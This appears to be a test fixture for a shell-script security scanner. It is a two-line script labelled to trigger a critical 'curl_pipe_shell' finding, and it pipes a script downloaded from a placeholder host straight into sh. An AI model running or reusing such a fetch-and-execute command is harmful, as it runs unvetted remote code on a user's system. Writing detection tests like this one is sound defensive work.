# expect: shell.curl_pipe_shell critical
#!/bin/sh
GET https://get.example.net/i.sh | sh
